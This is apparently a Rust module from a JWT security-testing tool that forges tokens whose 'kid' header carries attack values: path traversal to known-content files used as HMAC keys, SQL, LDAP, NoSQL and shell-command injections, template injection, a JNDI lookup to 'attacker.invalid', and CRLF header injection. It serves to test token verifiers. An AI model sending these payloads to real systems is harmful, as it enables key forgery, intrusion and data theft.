//! Key ids that hope to be used as something else (HDR-006 to HDR-008).

use doorward_jose::{algorithm::Algorithm, json::Value};
use serde_json::json;

use super::{Workshop, text};

pub(super) fn forge(workshop: &mut Workshop<'_>) {
    paths(workshop);
    injections(workshop);
    odd_types_and_sizes(workshop);
}

/// Files whose content everybody knows, used as HMAC key.
fn paths(workshop: &mut Workshop<'_>) {
    for (path, content) in [
        ("/dev/null", ""),
        ("../../../../../../../../dev/null", ""),
        ("file:///dev/null", ""),
        ("..\\..\\..\\..\\..\\..\\nul", ""),
        (
            "../../../../../../../../proc/sys/kernel/randomize_va_space",
            "2\n",
        ),
        (
            "../../../../../../../../proc/sys/net/ipv4/ip_forward",
            "0\n",
        ),
    ] {
        let header = workshop.header_with("kid", path);
        if let Some(token) = workshop.hmac(Algorithm::Hs256, header, content.as_bytes()) {
            workshop.add(
                "HDR-006",
                format!("kid {path}, keyed with its content"),
                token,
            );
        }
    }
}

fn injections(workshop: &mut Workshop<'_>) {
    // A query that can be made to answer "k" makes "k" the key.
    for kid in [
        "x' UNION SELECT 'k' -- ",
        "x\" UNION SELECT \"k\" -- ",
        "x' UNION SELECT 'k' FROM dual -- ",
    ] {
        let header = workshop.header_with("kid", kid);
        if let Some(token) = workshop.hmac(Algorithm::Hs256, header, b"k") {
            workshop.add(
                "HDR-007",
                format!("kid {kid}, keyed with the answer"),
                token,
            );
        }
    }
    for kid in [
        json!("' OR '1'='1"),
        json!("x'; SELECT pg_sleep(5) -- "),
        json!("x' AND SLEEP(5) -- "),
        json!("*)(uid=*))(|(uid=*"),
        json!({ "$ne": null }),
        json!({ "$gt": "" }),
        json!("$ne"),
        json!("x|sleep 5"),
        json!("$(sleep 5)"),
        json!("`sleep 5`"),
        json!("{{7*7}}"),
        json!("${jndi:ldap://attacker.invalid/a}"),
    ] {
        let token = workshop.with_header(text(workshop.header_with("kid", kid.clone())));
        workshop.add("HDR-007", format!("kid {kid}"), token);
    }
}

fn odd_types_and_sizes(workshop: &mut Workshop<'_>) {
    for (what, kid) in [
        ("number", json!(1)),
        ("null", Value::Null),
        ("true", json!(true)),
        ("list", json!(["a"])),
        ("object", json!({ "a": 1 })),
        ("empty", json!("")),
        ("10 KB", json!("k".repeat(10_240))),
        ("NUL", json!("a\0b")),
        ("CR LF", json!("a\r\nX-Injected: 1")),
        ("bidirectional mark", json!("a\u{202e}b")),
        ("escape sequence", json!("\u{1b}[2J")),
    ] {
        let token = workshop.with_header(text(workshop.header_with("kid", kid)));
        workshop.add("HDR-008", format!("kid: {what}"), token);
    }
}
